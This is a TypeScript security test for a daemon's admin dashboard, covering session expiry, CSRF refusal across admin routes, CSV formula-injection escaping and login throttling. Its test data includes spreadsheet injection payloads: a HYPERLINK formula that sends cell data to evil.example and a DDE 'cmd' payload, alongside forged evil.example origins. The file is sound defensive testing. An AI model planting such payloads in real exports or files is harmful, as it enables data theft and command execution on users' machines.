// The dashboard against a real daemon: its session cookie is refused after logout and once
// idle too long; every state-changing admin route (each admin POST of the OpenAPI document,
// and the hidden login and logout forms) refuses the cookie from another origin with 403 and
// changes nothing, while the dashboard's own origin still works; the feed errors CSV writes
// hostile skus as inert text; the 11th failed login from one address gets 429 + Retry-After.
// Runs last on its daemon: the throttle then holds logins from this address for 15 minutes.
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { Operation } from '../fuzz/requests.ts';
import { ADMIN_TOKEN, type World } from '../fuzz/world.ts';
import { until, type Target } from '../harness.ts';
import type { CheckResult } from './auth.ts';

const HOSTILE_SKUS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const LOGIN_ATTEMPTS = 10;

/** What pages of other origins make a browser send; the dashboard is at the daemon's own origin. */
const forgeries = (own: string): Record<string, string>[] => {
  const port = Number(new URL(own).port);
  return [
    { origin: 'https://evil.example' },
    { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
    // Same site (the same host), another origin (another port): SameSite cookies still go.
    { origin: `http://127.0.0.1:${port + 1}`, 'sec-fetch-site': 'same-site' },
    { origin: `http://127.0.0.1:${port + 1}` },
    {},
  ];
};

/** The rows of a CSV text, as a spreadsheet or any RFC 4180 reader splits them. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' }) as string[][];

export async function checkAdmin(world: World, ops: Operation[], target: Target): Promise<CheckResult> {
  const problems: string[] = [];
  const base = world.daemon.url;
  const own = { origin: base, 'sec-fetch-site': 'same-origin' };
  const bearer = { authorization: `Bearer ${ADMIN_TOKEN}` };
  const form = { 'content-type': 'application/x-www-form-urlencoded' };
  const login = (token: string, headers: Record<string, string> = own) =>
    fetch(`${base}/admin/login`, {
      method: 'POST',
      redirect: 'manual',
      headers: { ...form, ...headers },
      body: `token=${encodeURIComponent(token)}`,
    });
  const session = async (): Promise<string> => {
    const res = await login(ADMIN_TOKEN);
    await res.text();
    const set = res.headers.get('set-cookie') ?? '';
    if (res.status !== 303 || !set.startsWith('waybill_admin=')) throw new Error(`login answered ${res.status} with Set-Cookie ${set}`);
    if (/;\s*Secure/i.test(set)) problems.push('the cookie is Secure over plain HTTP');
    return set.split(';')[0]!;
  };
  const queues = async (cookie: string): Promise<number> => {
    const r = await fetch(`${base}/admin/api/queues`, { headers: { cookie } });
    await r.text();
    return r.status;
  };

  // Sessions: logout ends one; an idle one ends; X-Forwarded-Proto alone makes nothing Secure.
  const cookie = await session();
  if ((await queues(cookie)) !== 200) problems.push('a fresh session cookie is refused');
  const ended = await session();
  const out = await fetch(`${base}/admin/logout`, { method: 'POST', redirect: 'manual', headers: { cookie: ended, ...own } });
  await out.text();
  if (out.status !== 303) problems.push(`logout answered ${out.status}`);
  const afterLogout = await queues(ended);
  if (afterLogout !== 401) problems.push(`the cookie after logout answered ${afterLogout}`);
  const idle = await session();
  // 31 minutes pass for the admin session made above: the table keeps the sha256 of the id the cookie signs.
  const idleId = decodeURIComponent(idle.slice('waybill_admin='.length)).replace(/\.[^.]*$/, '');
  await target.query(`update admin_sessions set last_seen_at = now() - interval '31 minutes' where id_hash = $1`, [
    createHash('sha256').update(idleId).digest('hex'),
  ]);
  const afterIdle = await queues(idle);
  if (afterIdle !== 401) problems.push(`a session idle for 31 minutes answered ${afterIdle}`);
  const proxied = await login(ADMIN_TOKEN, { ...own, 'x-forwarded-proto': 'https' });
  await proxied.text();
  if (/;\s*Secure/i.test(proxied.headers.get('set-cookie') ?? ''))
    problems.push('X-Forwarded-Proto from an untrusted peer made the cookie Secure');

  // CSRF: every state-changing admin route, each forgery, with a valid session.
  const live = await session();
  const routes = [
    ...ops
      .filter((o) => o.auth === 'admin' && !['GET', 'HEAD', 'OPTIONS'].includes(o.method))
      .map((o) => ({ method: o.method, path: o.path.replace(/\{\w+\}/g, 'x1') })),
    { method: 'POST', path: '/admin/login' },
    { method: 'POST', path: '/admin/logout' },
  ];
  let forged = 0;
  for (const route of routes) {
    for (const headers of forgeries(base)) {
      const r = await fetch(`${base}${route.path}`, { method: route.method, redirect: 'manual', headers: { cookie: live, ...headers } });
      const body = await r.text();
      forged++;
      if (r.status !== 403)
        problems.push(`${route.method} ${route.path} from ${JSON.stringify(headers)} answered ${r.status}: ${body.slice(0, 150)}`);
    }
  }
  const forgedAction = await fetch(`${base}/admin/api/connectors/erp-main/disable`, {
    method: 'POST',
    headers: { cookie: live, origin: 'https://evil.example' },
  });
  await forgedAction.text();
  const connectors = (await (await fetch(`${base}/admin/api/connectors?runs=0`, { headers: bearer })).json()) as {
    name: string;
    enabled: boolean;
  }[];
  if (connectors.find((c) => c.name === 'erp-main')?.enabled !== true) problems.push('a forged disable disabled the connector');
  if ((await queues(live)) !== 200) problems.push('forged logouts ended the session');
  for (const action of ['disable', 'enable']) {
    const r = await fetch(`${base}/admin/api/connectors/erp-main/${action}`, { method: 'POST', headers: { cookie: live, ...own } });
    await r.text();
    if (r.status !== 200) problems.push(`the dashboard's own ${action} answered ${r.status}`);
  }

  // CSV: hostile skus come back as text a spreadsheet shows, never evaluates.
  const put = await fetch(`${base}/shops/${world.shop.shopPk}/products/`, {
    method: 'PUT',
    headers: world.shop.headers,
    body: JSON.stringify(HOSTILE_SKUS.map((sku) => ({ sku, price: 1 }))),
  });
  if (put.status !== 201) throw new Error(`the hostile skus answered ${put.status}: ${await put.text()}`);
  const feedPk = ((await put.json()) as { pk: string }).pk;
  await until('the hostile feed', async () => {
    const f = (await (await fetch(`${base}/admin/api/feeds/${feedPk}`, { headers: bearer })).json()) as { state: string };
    return f.state === 'done' || f.state === 'failed';
  });
  const csv = parseCsv(await (await fetch(`${base}/admin/api/feeds/${feedPk}/errors.csv`, { headers: bearer })).text());
  const skus = csv.slice(1).map((r) => r[1]);
  if (JSON.stringify(skus) !== JSON.stringify(HOSTILE_SKUS.map((s) => `'${s}`))) problems.push(`errors.csv skus: ${JSON.stringify(skus)}`);
  const formulas = csv.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
  if (formulas.length > 0) problems.push(`errors.csv cells a spreadsheet would evaluate: ${JSON.stringify(formulas)}`);

  // Login throttling (last: it locks this address out of the login for the window).
  const statuses: number[] = [];
  for (let i = 0; i <= LOGIN_ATTEMPTS; i++) {
    const r = await login(`wrong-admin-token-${i}`);
    statuses.push(r.status);
    await r.text();
    if (r.status === 429) {
      const retry = Number(r.headers.get('retry-after'));
      if (!Number.isInteger(retry) || retry < 1 || retry > 900) problems.push(`429 Retry-After is ${r.headers.get('retry-after')}`);
    }
  }
  const expected = [...Array(LOGIN_ATTEMPTS).fill(401), 429];
  if (JSON.stringify(statuses) !== JSON.stringify(expected))
    problems.push(`failed logins answered ${statuses.join(',')} (expected ${expected.join(',')})`);
  const right = await login(ADMIN_TOKEN);
  await right.text();
  if (right.status !== 429 || right.headers.get('set-cookie') !== null)
    problems.push(`the right token while throttled answered ${right.status}`);
  return {
    figures: {
      admin_forged_requests: forged,
      admin_state_routes: routes.length,
      csv_hostile_cells: HOSTILE_SKUS.length,
      login_attempts_before_429: statuses.indexOf(429),
    },
    problems,
  };
}
